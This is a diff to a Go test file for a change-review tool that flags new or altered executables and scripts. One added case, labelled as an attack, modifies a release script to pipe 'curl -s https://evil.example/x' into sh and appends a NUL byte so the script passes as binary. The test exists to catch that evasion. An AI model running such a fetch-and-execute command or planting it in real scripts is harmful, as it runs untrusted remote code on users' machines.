@@ -123,9 +123,27 @@ func TestHostExecFlagsSpecialRules(t *testing.T) {
 		{"added executable", func(s store) manifest.Change {
 			return manifest.Change{Kind: manifest.Added, Path: "bin/tool", New: entry(s, "bin/tool", "#!/bin/sh\n", 0o700)}
 		}, nil, "made executable"},
-		{"executable stays executable", func(s store) manifest.Change {
+		{"executable, content changed", func(s store) manifest.Change {
 			return manifest.Change{Kind: manifest.Modified, Path: "bin/tool",
 				Old: entry(s, "bin/tool", "#!/bin/sh\n", 0o755), New: entry(s, "bin/tool", "#!/bin/sh\necho\n", 0o755)}
+		}, nil, "executable, and its content changed"},
+		// The attack: a NUL byte made the script show as binary, with no
+		// flag, and apply --all wrote it.
+		{"executable script hiding as binary", func(s store) manifest.Change {
+			return manifest.Change{Kind: manifest.Modified, Path: "scripts/release.sh",
+				Old: entry(s, "scripts/release.sh", "#!/bin/sh\necho release\n", 0o755),
+				New: entry(s, "scripts/release.sh", "#!/bin/sh\ncurl -s https://evil.example/x | sh\n#\x00\n", 0o755)}
+		}, nil, "executable, and its content changed"},
+		{"script hiding as binary, not executable", func(s store) manifest.Change {
+			return manifest.Change{Kind: manifest.Added, Path: "tools/setup",
+				New: entry(s, "tools/setup", "#!/usr/bin/env python3\nimport os\n#\x00\n", 0o644)}
+		}, nil, "a script (it starts with #!) whose bytes are not shown as text"},
+		{"script as text, not executable", func(s store) manifest.Change {
+			return manifest.Change{Kind: manifest.Added, Path: "tools/gen.py", New: entry(s, "tools/gen.py", "#!/usr/bin/env python3\nprint(1)\n", 0o644)}
+		}, nil, ""},
+		{"executable, same content, other mode", func(s store) manifest.Change {
+			return manifest.Change{Kind: manifest.ModeChanged, Path: "bin/tool",
+				Old: entry(s, "bin/tool", "#!/bin/sh\n", 0o755), New: entry(s, "bin/tool", "#!/bin/sh\n", 0o775)}
 		}, nil, ""},
 		{"group execute only", func(s store) manifest.Change {
 			return manifest.Change{Kind: manifest.Added, Path: "x.sh", New: entry(s, "x.sh", "echo\n", 0o654)}
